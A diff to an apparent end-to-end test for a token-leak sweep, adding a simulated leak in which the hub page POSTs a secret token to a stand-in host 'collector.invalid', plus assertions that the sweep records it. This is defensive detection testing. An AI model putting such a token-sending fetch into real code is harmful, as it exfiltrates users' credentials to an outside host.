@@ -51,6 +51,10 @@ describe('the token sweep run after every e2e test', () => {
       ([token, backend]) => fetch(`${backend}/hub/settings?token=${token}`).catch(() => null),
       [TOKEN, world.hub.backendOrigin],
     );
+    await hubPage.evaluate(
+      (token) => fetch('http://collector.invalid/', { method: 'POST', body: token }).catch(() => null),
+      TOKEN,
+    );
     await okta.evaluate((token) => {
       document.body.append(Object.assign(document.createElement('okta-link-assistant'), { title: token }));
     }, TOKEN);
@@ -76,10 +80,12 @@ describe('the token sweep run after every e2e test', () => {
     expect(leaks).toMatch(/^console: .*isolated 00Sweep/m);
     expect(leaks).toMatch(/^Okta request GET acme-admin\.okta\.com\/api\/v1\/users\/me\?token=/m);
     expect(leaks).toMatch(/^hub request GET \/hub\/settings\?token=/m);
+    expect(leaks).toMatch(/^browser request GET http:\/\/127\.0\.0\.1:\d+\/hub\/settings\?token=/m);
+    expect(leaks).toMatch(/^browser request POST http:\/\/collector\.invalid\//m);
     expect(leaks).toMatch(/^guide overlay on http:\/\/acme-admin\.okta\.com/m);
     expect(leaks).toMatch(/^extension page chrome-extension:\/\/.*popup\.html/m);
     expect(leaks).toMatch(/^storage\.local holds/m);
     // The link request itself carries it, in its credentials: that is where it belongs.
-    expect(leaks).not.toMatch(/POST \/hub\/accounts/);
+    expect(leaks).not.toMatch(/POST \/hub\/accounts|POST http:\/\/127\.0\.0\.1:\d+\/hub\/accounts/);
   });
 });
